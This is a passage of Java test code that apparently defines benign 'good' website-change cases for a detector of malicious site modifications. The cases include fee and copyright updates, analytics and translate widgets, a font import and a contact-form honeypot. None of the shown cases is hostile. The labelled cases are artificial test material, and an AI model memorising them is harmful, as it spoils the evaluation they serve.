            + "工場見学会のご案内</h3><p>12月13日（土）に工場見学会を開催します。</p><a href=\"{{origin}}/news/\">詳しくはこちら"
            + "</a></div><script>document.querySelectorAll('.open-campaign').forEach(function(b){b.onclick=function(){document."
            + "getElementById('campaign').style.display='block'}});</script>")));
    v.add(good(Y, "content", "[fresh6] copyright year and a fee table updated (Shift_JIS)", e -> {
      e.site.replace("*", "copyright&copy;2014", "copyright&copy;2014-2026");
      e.site.replace("/ryokin.html", "<TD>22,000円</TD><TD>11,000円</TD>", "<TD>24,200円</TD><TD>12,100円</TD>");
    }));
    v.add(good(C, "tags", "[fresh6] Cloudflare Web Analytics beacon", e -> e.site.insertBefore("*", "</body>", "<script defer "
        + "src=\"https://static.cloudflareinsights.com/beacon.min.js\" data-cf-beacon='{\"token\": \"0a1b2c3d4e5f60718293a4b5c6d"
        + "7e8f9\"}'></script>\n")));
    v.add(good(W, "content", "[fresh6] language switcher navigating on change, in a same-site script", e -> {
      e.site.put("/wp-content/themes/lightning/_g3/assets/js/lang.js", "document.addEventListener('DOMContentLoaded',function()"
          + "{var s=document.getElementById('lang-select');if(s){s.addEventListener('change',function(){location.href=this.value"
          + "})}});\n");
      e.site.insertBefore("*", "</body>", "<select id=\"lang-select\"><option value=\"{{origin}}/\">日本語</option><option "
          + "value=\"{{origin}}/en/\">English</option></select><script src=\"{{origin}}/wp-content/themes/lightning/_g3/assets/"
          + "js/lang.js?ver=15.30.0\"></script>\n");
    }));
    v.add(good(H, "content", "[fresh6] the owner's own CSS file adds a Google Fonts @import and a same-site background", e ->
        e.site.append("/wp-content/themes/cocoon-child-master/style.css", "\n@import url('https://fonts.googleapis.com/css2?"
            + "family=Zen+Maru+Gothic:wght@400;700&display=swap');\nbody{font-family:'Zen Maru Gothic',sans-serif}\n.header{"
            + "background:url(/wp-content/uploads/2026/11/header-bg.jpg)}\n")));
    v.add(good(E, "content", "[fresh6] honeypot field hidden in the contact form", e -> e.site.replace("/contact",
        "<form method=\"post\" action=\"{{origin}}/contact\" class=\"h-adr\" novalidate>", "<form method=\"post\" action=\""
            + "{{origin}}/contact\" class=\"h-adr\" novalidate><div style=\"position:absolute;left:-5000px\" aria-hidden=\"true\">"
            + "<input type=\"text\" name=\"website_url\" tabindex=\"-1\" value=\"\"></div>")));
    v.add(good(S, "content", "[fresh6] Google Translate widget", e -> e.site.insertBefore("*", "</body>", "<div id=\"google_"
        + "translate_element\"></div><script>function googleTranslateElementInit(){new google.translate.TranslateElement({"
        + "pageLanguage:'ja',includedLanguages:'en,zh-CN,zh-TW,ko'},'google_translate_element')}</script><script src=\"//"
        + "translate.google.com/translate_a/element.js?cb=googleTranslateElementInit\"></script>\n")));
    return v;
  }
}
